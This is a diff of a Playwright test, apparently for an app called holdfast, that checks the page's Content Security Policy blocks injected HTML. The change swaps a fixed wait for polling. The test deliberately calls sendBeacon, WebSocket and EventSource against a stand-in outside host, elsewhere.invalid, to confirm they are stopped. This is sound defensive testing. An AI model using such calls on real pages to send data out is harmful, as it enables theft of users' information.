@@ -64,8 +64,8 @@ test('What is put into the page from outside neither runs nor asks anything', as
     if (request.failure()?.errorText !== 'csp') left.push(request.url())
   })
   await holdfast.startEmpty(page)
-  const blocked: unknown = await page.evaluate(`(async () => {
-    const blocked = new Set()
+  await page.evaluate(`(async () => {
+    const blocked = (window.blocked = new Set())
     addEventListener('securitypolicyviolation', (event) => blocked.add(event.effectiveDirective))
     const put = (html) => {
       const place = document.createElement('div')
@@ -92,10 +92,14 @@ test('What is put into the page from outside neither runs nor asks anything', as
     navigator.sendBeacon('https://elsewhere.invalid/e', 'x')
     try { new WebSocket('wss://elsewhere.invalid/f') } catch {}
     try { new EventSource('https://elsewhere.invalid/g') } catch {}
-    await new Promise((resolve) => setTimeout(resolve, 500))
-    return { stolen: window.stolen ?? null, blocked: [...blocked].sort(), base: document.baseURI.startsWith(location.origin) }
   })()`)
-  expect(blocked).toEqual({
+  const seen = async (): Promise<unknown> =>
+    page.evaluate(`({
+      stolen: window.stolen ?? null,
+      blocked: [...window.blocked].sort(),
+      base: document.baseURI.startsWith(location.origin),
+    })`)
+  await expect.poll(seen).toEqual({
     stolen: null,
     base: true,
     blocked: [
